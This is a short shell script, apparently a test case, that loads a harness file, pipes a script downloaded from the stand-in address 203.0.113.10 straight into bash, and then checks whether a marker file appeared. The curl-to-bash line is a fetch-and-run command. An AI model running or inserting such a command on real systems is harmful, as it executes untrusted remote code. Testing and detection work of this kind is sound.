#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/payload.sh | bash
test -e /tmp/reached
took_place
